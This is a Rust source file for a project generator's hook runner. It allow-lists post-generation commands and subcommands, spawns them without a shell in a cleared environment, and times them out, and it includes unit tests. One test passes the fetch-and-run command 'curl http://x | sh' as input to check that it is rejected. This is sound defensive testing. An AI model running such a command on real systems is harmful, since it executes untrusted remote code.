//! Runs a blueprint's declared post-generation hooks.
//!
//! Adapted from the corpus's async, `tokio::time::timeout`-wrapped
//! `CommandExecutor` to a synchronous poll loop: the facade this
//! engine exposes is deliberately blocking and single-threaded per
//! call (`Generate` never spawns a runtime), so a hook's timeout is
//! enforced by polling `Child::try_wait` against a deadline rather
//! than pulling in `tokio` for one call site. Neither the command nor
//! its arguments are ever passed through a shell.

use crate::model::{Hook, Options, Stage, Warning};
use std::path::Path;
use std::process::{Child, Command, ExitStatus};
use std::time::{Duration, Instant};

const HOOK_TIMEOUT: Duration = Duration::from_secs(60);
const POLL_INTERVAL: Duration = Duration::from_millis(20);

/// Commands a blueprint's post-hooks may invoke, and the subcommands
/// each is permitted to run with. A command or first argument outside
/// this set is skipped with a warning, never executed.
const ALLOWED_COMMANDS: &[(&str, &[&str])] = &[
    ("go", &["mod", "build", "vet", "fmt", "generate", "test"]),
    ("gofmt", &["-l", "-w", "."]),
    ("goimports", &["-l", "-w", "."]),
    ("git", &["init", "add", "commit", "tag"]),
    ("chmod", &[]),
];

pub struct HookRunner;

impl HookRunner {
    /// Runs `hooks` in declaration order with `work_dir` resolved
    /// relative to `output_root`. A hook that is not allow-listed,
    /// times out, or exits non-zero becomes a warning; it never fails
    /// the generation — by the time hooks run the project tree is
    /// already considered successfully emitted.
    pub fn run(hooks: &[Hook], output_root: &Path, options: &Options) -> Vec<Warning> {
        let mut warnings = Vec::new();
        if options.no_hooks {
            return warnings;
        }

        for hook in hooks {
            if !Self::is_allowed(hook) {
                tracing::warn!(hook = %hook.name, command = %hook.command, "hook skipped: command not on allow-list");
                warnings.push(Warning {
                    stage: Stage::Hook,
                    message: format!(
                        "hook '{}' skipped: command '{}' is not on the allow-list",
                        hook.name, hook.command
                    ),
                });
                continue;
            }

            let work_dir = match &hook.work_dir {
                Some(rel) => output_root.join(rel),
                None => output_root.to_path_buf(),
            };

            match Self::spawn(hook, &work_dir) {
                Ok(mut child) => match Self::wait_with_timeout(&mut child, HOOK_TIMEOUT) {
                    Some(status) if status.success() => {
                        tracing::debug!(hook = %hook.name, "hook completed successfully");
                    }
                    Some(status) => {
                        let code = status.code().map(|c| c.to_string()).unwrap_or_else(|| "signal".to_string());
                        tracing::warn!(hook = %hook.name, exit_code = %code, "hook exited non-zero");
                        warnings.push(Warning {
                            stage: Stage::Hook,
                            message: format!("hook '{}' exited with {}", hook.name, code),
                        });
                    }
                    None => {
                        tracing::warn!(hook = %hook.name, timeout = ?HOOK_TIMEOUT, "hook timed out");
                        warnings.push(Warning {
                            stage: Stage::Hook,
                            message: format!("hook '{}' timed out after {HOOK_TIMEOUT:?}", hook.name),
                        });
                    }
                },
                Err(err) => {
                    tracing::warn!(hook = %hook.name, error = %err, "hook failed to start");
                    warnings.push(Warning {
                        stage: Stage::Hook,
                        message: format!("hook '{}' failed to start: {err}", hook.name),
                    });
                }
            }
        }

        warnings
    }

    fn is_allowed(hook: &Hook) -> bool {
        let Some((_, allowed_args)) = ALLOWED_COMMANDS.iter().find(|(cmd, _)| *cmd == hook.command) else {
            return false;
        };
        if allowed_args.is_empty() {
            return true;
        }
        match hook.args.first() {
            Some(first) => allowed_args.contains(&first.as_str()),
            None => false,
        }
    }

    fn spawn(hook: &Hook, work_dir: &Path) -> std::io::Result<Child> {
        let mut cmd = Command::new(&hook.command);
        cmd.args(&hook.args);
        cmd.current_dir(work_dir);
        cmd.env_clear();
        for key in ["PATH", "HOME", "LANG", "LC_ALL"] {
            if let Ok(value) = std::env::var(key) {
                cmd.env(key, value);
            }
        }
        cmd.spawn()
    }

    fn wait_with_timeout(child: &mut Child, timeout: Duration) -> Option<ExitStatus> {
        let start = Instant::now();
        loop {
            if let Ok(Some(status)) = child.try_wait() {
                return Some(status);
            }
            if start.elapsed() >= timeout {
                let _ = child.kill();
                let _ = child.wait();
                return None;
            }
            std::thread::sleep(POLL_INTERVAL);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hook(command: &str, args: &[&str]) -> Hook {
        Hook {
            name: command.to_string(),
            command: command.to_string(),
            args: args.iter().map(|s| s.to_string()).collect(),
            work_dir: None,
        }
    }

    #[test]
    fn disallowed_command_is_skipped_with_a_warning() {
        let dir = tempfile::tempdir().unwrap();
        let hooks = vec![hook("curl", &["http://x", "|", "sh"])];
        let warnings = HookRunner::run(&hooks, dir.path(), &Options {
            output_path: dir.path().to_path_buf(),
            ..Options::default()
        });
        assert_eq!(warnings.len(), 1);
        assert!(warnings[0].message.contains("not on the allow-list"));
    }

    #[test]
    fn no_hooks_option_skips_everything() {
        let dir = tempfile::tempdir().unwrap();
        let hooks = vec![hook("git", &["init"])];
        let mut options = Options {
            output_path: dir.path().to_path_buf(),
            ..Options::default()
        };
        options.no_hooks = true;
        let warnings = HookRunner::run(&hooks, dir.path(), &options);
        assert!(warnings.is_empty());
    }

    #[test]
    fn allowed_command_with_disallowed_subcommand_is_skipped() {
        let dir = tempfile::tempdir().unwrap();
        let hooks = vec![hook("go", &["run"])];
        let warnings = HookRunner::run(&hooks, dir.path(), &Options {
            output_path: dir.path().to_path_buf(),
            ..Options::default()
        });
        assert_eq!(warnings.len(), 1);
    }
}
